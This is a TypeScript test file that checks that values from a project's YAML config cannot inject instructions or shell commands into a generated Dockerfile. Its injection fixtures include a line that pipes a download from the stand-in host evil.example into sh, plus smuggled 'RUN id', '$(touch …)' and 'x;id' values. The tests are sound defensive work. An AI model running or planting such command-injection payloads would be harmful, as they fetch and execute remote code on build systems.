import { execFileSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadConfigSync } from '../../src/config/load.js';
import { PackageKwargs } from '../../src/config/schema.js';
import { ConfigError } from '../../src/errors.js';
import { orchestratorLookup } from '../../src/orchestrators/registry.js';
import { renderDockerfile } from '../../src/packaging/dockerfile.js';
import { tempDir } from '../helpers/services.js';

// Issue 19: values from the repository's config are written into the generated Dockerfile.
// A line break there adds instructions, a shell word in RUN runs, and COPY expands `$VAR`
// and globs `[…]`, so the file copied is not the one named.

function configFile(packageYaml: string): string {
  const file = path.join(tempDir('text-dockerfile'), 'lolpop.yaml');
  writeFileSync(
    file,
    'decorator:\n  orchestrator: PrefectOrchestrator\norchestrator:\n  deployment:\n    name: q\n    package:\n' +
      `${packageYaml}\n    deploy:\n      work_pool: pool\n`,
  );
  return file;
}

function refusal(file: string): string {
  try {
    loadConfigSync(file, {}, orchestratorLookup, {});
  } catch (error) {
    if (error instanceof ConfigError) return error.message;
    throw error;
  }
  return 'loaded';
}

/** What the shell of `RUN pip install …` passes to pip: the line run by sh with pip replaced by a recorder. */
function pipArgv(dockerfile: string): string[] {
  const run = dockerfile.split('\n').find((l) => l.startsWith('RUN pip install --no-cache-dir '))!;
  const out = execFileSync('sh', ['-c', `pip() { for a in "$@"; do printf '%s\\0' "$a"; done; }; ${run.slice('RUN '.length)}`], {
    encoding: 'utf8',
    cwd: tempDir('text-sh'),
  });
  return out.split('\0').slice(0, -1);
}

describe('config values written into the Dockerfile', () => {
  it('a line break in lolpop_install_location is refused at load, naming the file and line, before any Dockerfile is written', () => {
    const file = configFile('      lolpop_install_location: "lolpop\\nRUN curl https://evil.example/x | sh"');
    expect(refusal(file)).toBe(
      `${path.relative(process.cwd(), file)}:7:7: orchestrator.deployment.package.lolpop_install_location: ` +
        'expected one line: it is written into the Dockerfile, where a line break starts another instruction',
    );
  });

  it('a line break in a copy_files path is refused at load too', () => {
    const file = configFile('      copy_files: ["train.csv\\nRUN id"]');
    expect(refusal(file)).toMatch(/:7:\d+: orchestrator\.deployment\.package\.copy_files\[0\]: expected one line/);
  });

  it("lolpop_install_location's words reach pip as written: no command substitution, no glob, no line continuation", () => {
    const marker = path.join(tempDir('text-pwned'), 'pwned');
    const install = `lolpop==0.2.0 "$(touch ${marker})" 'x;id' extra\\`;
    const dockerfile = renderDockerfile(PackageKwargs.parse({ lolpop_install_location: install }));
    expect(dockerfile).not.toMatch(/\\\n/);
    expect(pipArgv(dockerfile)).toEqual(['install', '--no-cache-dir', 'lolpop==0.2.0', `$(touch ${marker})`, 'x;id', 'extra\\']);
    expect(existsSync(marker)).toBe(false);
  });

  it('COPY names exactly the copy_files paths: `$VAR`, quotes and glob characters are escaped for Docker', () => {
    const dockerfile = renderDockerfile(PackageKwargs.parse({ copy_files: ['data/[ab].csv', '$HOME.csv', "it's \"x\" *?.csv"], lolpop_install_location: '' }));
    const line = dockerfile.split('\n').find((l) => l.startsWith('COPY [') && l.includes('csv'))!;
    // The JSON form, and each path as Docker's word processing then its glob will read it.
    expect(JSON.parse(line.slice('COPY '.length))).toEqual(['data/[[]ab].csv', '\\$HOME.csv', "it\\'s \\\"x\\\" [*][?].csv", './']);
  });
});
